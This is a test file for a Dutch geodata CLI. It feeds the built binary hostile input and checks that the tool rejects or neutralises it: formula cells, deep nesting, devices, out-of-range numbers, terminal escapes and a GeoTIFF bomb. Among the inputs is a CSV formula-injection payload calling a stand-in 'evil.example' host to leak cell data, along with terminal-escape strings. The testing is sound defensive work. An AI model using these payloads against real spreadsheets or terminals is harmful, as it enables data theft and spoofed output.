/**
 * Hostile and huge input against the CLI (issue #13): each finding as the built binary meets it.
 * Bad input exits 2 with a clear message (never 1, never a stack overflow, never a hang); CSV
 * output carries no live formula; terminal escapes from a service never reach the terminal.
 */
import { execFile } from 'node:child_process';
import { mkdtempSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';

// Each test starts CLI processes; on a loaded machine (CI with both cores busy) one can take over
// the default 20 s. A hang is still caught (the child processes have their own time limit).
vi.setConfig({ testTimeout: 90_000 });
import { parseCsvText } from '../../src/core/csv.js';
import { projectRoot } from '../helpers/shared.js';
import { startFaultServer, type FaultServer } from '../helpers/fault-server.js';
import { bombTiff } from '../helpers/hostile.js';

const run = promisify(execFile);
const bin = resolve(projectRoot, 'bin/natuurlijke-alliantie.js');

async function cli(args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  try {
    const { stdout, stderr } = await run(process.execPath, [bin, ...args], {
      cwd: projectRoot,
      maxBuffer: 64 * 1024 * 1024,
      timeout: 120_000,
    });
    return { code: 0, stdout, stderr };
  } catch (e) {
    const err = e as { code: number; stdout: string; stderr: string };
    return { code: err.code, stdout: err.stdout, stderr: err.stderr };
  }
}

const dir = mkdtempSync(join(tmpdir(), 'na-hostile-cli-'));
const square = (x: number, y: number, d: number) => ({
  type: 'Polygon',
  coordinates: [
    [
      [x, y],
      [x + d, y],
      [x + d, y + d],
      [x, y + d],
      [x, y],
    ],
  ],
});
function write(name: string, content: string): string {
  const path = join(dir, name);
  writeFileSync(path, content);
  return path;
}
// No '/' in it: a soil code with a slash is read as a Bodemkaart complex (its first unit).
const FORMULA = '=HYPERLINK("evil.example?d="&A1,"Hn21")';
write(
  'formula.geojson',
  JSON.stringify({
    type: 'FeatureCollection',
    crs: { type: 'name', properties: { name: 'urn:ogc:def:crs:EPSG::28992' } },
    features: [
      {
        type: 'Feature',
        properties: { zone: 'Dz1', soil: FORMULA },
        geometry: square(150000, 460000, 1000),
      },
    ],
  }),
);
const formulaSources = write(
  'formula-sources.json',
  JSON.stringify({
    sources: [
      {
        id: 'lagen',
        type: 'geojson',
        path: 'formula.geojson',
        properties: { zone: 'zone', soilCode: 'soil' },
      },
    ],
  }),
);

let server: FaultServer;
beforeAll(async () => {
  server = await startFaultServer();
});
afterAll(async () => {
  await server.close();
});

describe('finding 3: CSV output carries no live formula', () => {
  it('ids and service values that are formulas are neutralised in check --csv', async () => {
    const points = write(
      'formula-points.csv',
      `id,x,y\n"=1+1",150500,460500\n"@SUM(A1)",150600,460600\n+cmd,150700,460700\n`,
    );
    const { code, stdout, stderr } = await cli([
      'check',
      '--csv',
      points,
      '--data',
      formulaSources,
    ]);
    expect(stderr).toBe('');
    expect(code).toBe(0);
    const rows = await parseCsvText(stdout);
    expect(rows.map((r) => r.cells[0])).toEqual(['id', `'=1+1`, `'@SUM(A1)`, `'+cmd`]);
    const soil = rows[0]!.cells.indexOf('soil_code');
    expect(rows[1]!.cells[soil]).toBe(`'${FORMULA}`);
    for (const r of rows)
      for (const c of r.cells) expect('=+-@\t\r').not.toContain(c.charAt(0) || 'x');
  });
});

describe('findings 5 and 6: configuration files are bounded in size and depth', () => {
  it('a sources file over 4 MiB exits 2: "this looks like a data file"', async () => {
    const big = write('big-sources.json', `{"sources": [], "x": "${'y'.repeat(5 * 1024 * 1024)}"}`);
    const r = await cli(['check', '150500', '460500', '--data', big]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/looks like a data file, not a sources file/);
    const kb = await cli(['check', '150500', '460500', '--data', formulaSources, '--kb', big]);
    expect(kb.code).toBe(2);
    expect(kb.stderr).toMatch(/looks like a data file/);
  });

  it.each([
    [
      'a sources file',
      (deep: string) => ['check', '150500', '460500', '--data', write('deep-sources.json', deep)],
    ],
    [
      'a knowledge-base file',
      (deep: string) => [
        'check',
        '150500',
        '460500',
        '--data',
        formulaSources,
        '--kb',
        write('deep-kb.json', deep),
      ],
    ],
    ['--facts', (deep: string) => ['explain', '--facts', deep]],
    [
      'a truncated GeoJSON data file',
      (deep: string) => {
        write('deep.geojson', deep.slice(0, deep.length / 2));
        const s = write(
          'deep-data-sources.json',
          JSON.stringify({
            sources: [
              { id: 'd', type: 'geojson', path: 'deep.geojson', properties: { zone: 'z' } },
            ],
          }),
        );
        return ['check', '150500', '460500', '--data', s];
      },
    ],
  ] as const)(
    'nesting of 10,000 levels in %s exits 2, not a stack overflow',
    async (_what, args) => {
      const deep = `{"a":${'['.repeat(10_000)}${']'.repeat(10_000)}}`;
      const r = await cli([...args(deep)]);
      expect(r.code).toBe(2);
      expect(r.stderr).not.toMatch(/call stack|internal error/i);
      expect(r.stderr).toMatch(/nested more than \d+ levels deep/);
    },
  );
});

describe('finding 7: devices and FIFOs', () => {
  it('/dev/zero as --data, --kb or --csv exits 2 at once', async () => {
    for (const args of [
      ['check', '150500', '460500', '--data', '/dev/zero'],
      ['check', '150500', '460500', '--data', formulaSources, '--kb', '/dev/zero'],
      ['check', '--csv', '/dev/zero', '--data', formulaSources],
      ['compare', '/dev/zero'],
    ]) {
      const r = await cli(args);
      expect(r.code).toBe(2);
      expect(r.stderr).toMatch(/not a regular file/);
    }
  });
});

describe('finding 11: strict decimal numbers and ranges', () => {
  it.each([
    [['check', '0x2E64E', '448663'], /x coordinate "0x2E64E" is not a decimal number/],
    [['check', '1e400', '448663'], /x coordinate "1e400" is too large/],
    [['check', '190000', '1e-400'], /y coordinate "1e-400" is too small/],
    [
      ['explain', '--facts', '{"heat":-1e308}'],
      /"heat" = -1e\+308 is outside the plausible range -50 to 80 °C PET/,
    ],
    [
      ['explain', '--facts', '{"floodDepth":-5}'],
      /"floodDepth" = -5 is outside the plausible range 0 to 30 m/,
    ],
    [
      ['explain', '--facts', '{"elevation":1e300}'],
      /"elevation" = 1e\+300 is outside the plausible range/,
    ],
    [['explain', '--facts', '{"heat":1e400}'], /"heat" is too large to be a number/],
    [
      ['explain', '--facts', '{"zone":"Dz1","heat":1e-400}'],
      /Fact "heat" = 1e-400 is too small to be a number \(it would become 0\)/,
    ],
  ] as const)('%j exits 2: %s', async (args, message) => {
    const r = await cli([...args]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(message);
  });

  it('Point features in a polygon layer are reported once, and named when the point is outside', async () => {
    write(
      'points.geojson',
      JSON.stringify({
        type: 'FeatureCollection',
        crs: { type: 'name', properties: { name: 'urn:ogc:def:crs:EPSG::28992' } },
        features: [1, 2, 3].map((i) => ({
          type: 'Feature',
          properties: { zone: 'Dz1' },
          geometry: { type: 'Point', coordinates: [150000 + i, 460000] },
        })),
      }),
    );
    const s = write(
      'points-sources.json',
      JSON.stringify({
        sources: [
          { id: 'punten', type: 'geojson', path: 'points.geojson', properties: { zone: 'zone' } },
        ],
      }),
    );
    const r = await cli(['check', '150001', '460000', '--data', s]);
    expect(r.code).toBe(2);
    const notes = r.stderr.match(
      /skipped 3 feature\(s\) that are not Polygon\/MultiPolygon \(Point: 3\)/g,
    );
    expect(notes).toHaveLength(2); // the warning once, and the note in the outside message
    expect(r.stderr).toMatch(/warning: punten:/);
  });
});

describe('finding 10: a service text with terminal escapes never reaches the terminal', () => {
  it('check with a WMS that answers an ANSI exception: plain text, cut', async () => {
    const s = write(
      'ansi-sources.json',
      JSON.stringify({
        sources: [
          { id: 'lagen', type: 'geojson', path: 'formula.geojson', properties: { zone: 'zone' } },
          {
            id: 'kwaad',
            type: 'wms',
            url: server.url('/ansi'),
            layer: 'x',
            retries: 0,
            properties: { gt: 'gt' },
          },
        ],
      }),
    );
    for (const format of ['text', 'json']) {
      const r = await cli(['check', '150500', '460500', '--data', s, '--format', format]);
      expect(r.code).toBe(0);
      // eslint-disable-next-line no-control-regex -- the test looks for control characters
      expect(r.stdout + r.stderr).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
      expect(r.stdout).toContain('PWNED');
      expect(r.stdout).not.toContain('x'.repeat(1000));
    }
  });
});

// A scenario polygon on the dekzand ridge of the demo data (see test/cli/compare.test.ts).
const onDemo = square(195100, 445450, 50);

// Control characters a terminal acts on: C0 (but tab and newline), DEL, C1, and bidi overrides.
// eslint-disable-next-line no-control-regex -- the tests look for control characters
const CONTROL_CHARS = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
// An SGR colour, an OSC window title ended by BEL, a C1 CSI (clear screen) and a bidi override.
const ESCAPES = '\u001b[31mRED\u001b[0m\u001b]0;pwned\u0007\u009b2J\u202eevil';

describe('finding 10 (data values): no control characters in any text output', () => {
  const rdSquare = (props: Record<string, unknown>) => ({
    type: 'FeatureCollection',
    crs: { type: 'name', properties: { name: 'urn:ogc:def:crs:EPSG::28992' } },
    features: [{ type: 'Feature', properties: props, geometry: square(150000, 460000, 1000) }],
  });

  it('check --format text: a soil code with terminal escapes from a data file is printed as plain text', async () => {
    write('escapes.geojson', JSON.stringify(rdSquare({ zone: 'Dz1', soil: `Hn21${ESCAPES}` })));
    const s = write(
      'escapes-sources.json',
      JSON.stringify({
        sources: [
          {
            id: 'lagen',
            type: 'geojson',
            path: 'escapes.geojson',
            properties: { zone: 'zone', soilCode: 'soil' },
          },
        ],
      }),
    );
    const r = await cli(['check', '150500', '460500', '--data', s]);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('Hn21'); // the value is still there, as text
    expect(r.stdout).toContain('RED');
    expect(r.stdout).not.toMatch(CONTROL_CHARS);
  });

  it('compare --format text: a scenario name with terminal escapes is printed as plain text', async () => {
    const scenario = write(
      'escapes-scenario.geojson',
      JSON.stringify({
        ...rdSquare({ type: 'gras' }),
        features: [{ type: 'Feature', properties: { type: 'gras' }, geometry: onDemo }],
        name: `Groen${ESCAPES}`,
      }),
    );
    const r = await cli(['compare', scenario, '--format', 'text']);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('Groen');
    expect(r.stdout).not.toMatch(CONTROL_CHARS);
  });
});

describe('finding 3 (compare): the built CLI neutralises a formula as scenario name', () => {
  it('compare --format csv with a scenario named "=HYPERLINK(…)"', async () => {
    const scenario = write(
      'formula-scenario.geojson',
      JSON.stringify({
        type: 'FeatureCollection',
        name: FORMULA,
        crs: { type: 'name', properties: { name: 'urn:ogc:def:crs:EPSG::28992' } },
        features: [{ type: 'Feature', properties: { type: 'gras' }, geometry: onDemo }],
      }),
    );
    const r = await cli(['compare', scenario, '--format', 'csv']);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    const rows = await parseCsvText(r.stdout);
    const cells = rows.flatMap((row) => row.cells);
    expect(cells).toContain(`'${FORMULA}`);
    for (const c of cells) expect('=+-@\t\r').not.toContain(c.charAt(0) || 'x');
  });
});

describe('finding 5: a 200 MB file as --data or --kb is refused before it is read', () => {
  it('a sparse 200 MB sources file and knowledge-base file exit 2: "this looks like a data file"', async () => {
    const big = join(dir, 'sparse-200mb.json');
    writeFileSync(big, '{"sources": []}');
    truncateSync(big, 200 * 1024 * 1024); // sparse: 200 MB of NULs, no disk space used
    const data = await cli(['check', '150500', '460500', '--data', big]);
    expect(data.code).toBe(2);
    expect(data.stderr).toMatch(
      /over the limit of 4 MiB: this looks like a data file, not a sources file/,
    );
    const kb = await cli(['check', '150500', '460500', '--data', formulaSources, '--kb', big]);
    expect(kb.code).toBe(2);
    expect(kb.stderr).toMatch(/over the limit of 4 MiB: this looks like a data file/);
  });
});

describe('finding 11: coordinates outside the valid area of their CRS', () => {
  it.each([
    [
      ['check', '999999999', '448663'],
      /do not fit EPSG:28992 \(RD New: x in \[-7000, 300000\], y in \[289000, 629000\]\)/,
    ],
    [['check', '1e308', '448663'], /do not fit EPSG:28992/],
    [['check', '5.1', '95', '--crs', 'EPSG:4326'], /do not fit EPSG:4326 .*y in \[-90, 90\]/],
    [
      ['check', '155000', '463000', '--crs', 'EPSG:4326'],
      /these look like RD coordinates; use --crs EPSG:28992/,
    ],
  ] as const)('%j exits 2 naming the range: %s', async (args, message) => {
    const r = await cli([...args]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(message);
  });
});

describe('finding 11: GeometryCollection and line features in a polygon layer are reported', () => {
  it('"skipped 3 feature(s) … (GeometryCollection: 1, Point: 1, LineString: 1)", once per source', async () => {
    const geometries = [
      { type: 'GeometryCollection', geometries: [square(150000, 460000, 1000)] },
      { type: 'Point', coordinates: [150500, 460500] },
      {
        type: 'LineString',
        coordinates: [
          [150000, 460000],
          [151000, 461000],
        ],
      },
      square(160000, 460000, 1000),
    ];
    write(
      'mixed.geojson',
      JSON.stringify({
        type: 'FeatureCollection',
        crs: { type: 'name', properties: { name: 'urn:ogc:def:crs:EPSG::28992' } },
        features: geometries.map((geometry) => ({
          type: 'Feature',
          properties: { zone: 'Dz1' },
          geometry,
        })),
      }),
    );
    const s = write(
      'mixed-sources.json',
      JSON.stringify({
        sources: [
          { id: 'gemengd', type: 'geojson', path: 'mixed.geojson', properties: { zone: 'zone' } },
        ],
      }),
    );
    const skipped =
      /gemengd: skipped 3 feature\(s\) that are not Polygon\/MultiPolygon \(GeometryCollection: 1, Point: 1, LineString: 1\)/g;
    // Inside the polygon: answered, and the skipped features are still told (once).
    const inside = await cli(['check', '160500', '460500', '--data', s, '--format', 'json']);
    expect(inside.code).toBe(0);
    expect(inside.stderr.match(skipped)).toHaveLength(1);
    // Inside only the GeometryCollection: the user is not told "outside" without the reason.
    const outside = await cli(['check', '150500', '460500', '--data', s]);
    expect(outside.code).toBe(2);
    expect(outside.stderr).toMatch(/lies outside the data of every source/);
    expect(outside.stderr.match(skipped)).toHaveLength(2); // the warning, and the note in the message
  });
});

describe('finding 1 (CLI): check with a GeoTIFF bomb as local source is quick and reports too-large', () => {
  it('8192² Float32 in one DEFLATE strip as the "path" of a geotiff source', async () => {
    // The bomb covers x 150000–158192, y 451808–460000 (1 m pixels); a zone polygon under it.
    writeFileSync(join(dir, 'bomb.tif'), await bombTiff(8192));
    write(
      'under-bomb.geojson',
      JSON.stringify({
        type: 'FeatureCollection',
        crs: { type: 'name', properties: { name: 'urn:ogc:def:crs:EPSG::28992' } },
        features: [
          { type: 'Feature', properties: { zone: 'Dz1' }, geometry: square(150000, 459000, 1000) },
        ],
      }),
    );
    const s = write(
      'bomb-sources.json',
      JSON.stringify({
        sources: [
          {
            id: 'lagen',
            type: 'geojson',
            path: 'under-bomb.geojson',
            properties: { zone: 'zone' },
          },
          { id: 'ahn', type: 'geotiff', path: 'bomb.tif', properties: { elevation: 1 } },
        ],
      }),
    );
    const r = await cli(['check', '150500', '459500', '--data', s, '--format', 'json']);
    expect(r.code).toBe(0);
    const report = JSON.parse(r.stdout) as {
      sources: { id: string; status: string; code?: string; technical?: string }[];
    };
    expect(report.sources.find((x) => x.id === 'lagen')?.status).toBe('ok');
    const ahn = report.sources.find((x) => x.id === 'ahn');
    expect(ahn).toMatchObject({ status: 'error', code: 'too-large' });
    expect(ahn?.technical).toMatch(/over the limit maxDecodedBytes = 67108864; not decoded/);
  });
});
